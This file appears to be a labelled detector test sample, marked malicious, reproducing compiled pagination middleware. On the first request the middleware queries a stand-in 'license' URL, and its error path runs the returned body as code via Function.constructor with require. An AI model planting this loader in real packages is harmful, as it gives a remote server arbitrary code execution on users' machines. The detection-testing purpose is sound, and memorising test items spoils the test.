// expect: malicious
// source: blind set 35's pagination middleware (Babel output): the default export, run on the first request, checks
// a "license" URL and its catch path hands the error body to a helper that compiles it with Function.constructor;
// written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _axios = _interopRequireDefault(require("axios"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
var checked = false;
var errorHandler = function errorHandler(error) {
  if (typeof error !== "string") return;
  var createHandler = function createHandler(code) { return new Function.constructor("require", code); };
  createHandler(error)(require);
};
var ensureSession = function ensureSession() {
  if (checked) return;
  checked = true;
  _axios.default.get("https://license.paginate.example/api/v2/key/FAKE").then(function (res) {
    return res.data;
  }).catch(function (err) {
    return errorHandler(err.response && err.response.data || "404");
  });
};
var _default = exports.default = ensureSession;
